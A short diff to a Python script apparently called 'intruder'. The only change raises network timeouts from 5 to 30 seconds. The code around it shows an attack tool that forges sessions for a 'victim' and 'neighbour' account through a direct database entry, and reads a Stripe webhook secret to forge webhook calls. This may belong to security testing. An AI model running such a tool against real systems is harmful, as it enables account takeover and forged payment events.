@@ -65,7 +65,7 @@ def break_in(line: Line, config: Path, kind: str) -> Loot:
     if kind == "key":
         loot = Loot("key", key.decode(), audience, issuer)
     elif kind == "member":
-        with Session(settings.read_address(config), timeout_s=5.0) as database:
+        with Session(settings.read_address(config), timeout_s=30.0) as database:
             database.run(_ENTER, VICTIM, NEIGHBOUR)
         loot = Loot("member", session(key, audience, issuer, NEIGHBOUR))
     else:
@@ -152,12 +152,12 @@ def main(argv: Sequence[str] | None = None) -> int:
         return _with_login(stop)
     try:
         if options.kind == "webhook":
-            line = Line(WEB_URL, timeout_s=5.0)
+            line = Line(WEB_URL, timeout_s=30.0)
             secret = settings.secret(SECRETS / "stripe-webhook").read_text().strip()
             loot = Loot("webhook", secret)
             forge(line, loot)
         else:
-            line = Line(API_URL, timeout_s=5.0)
+            line = Line(API_URL, timeout_s=30.0)
             loot = break_in(line, options.config, options.kind)
     except Trouble as error:
         print(f"intruder: {error.text}", file=sys.stderr)
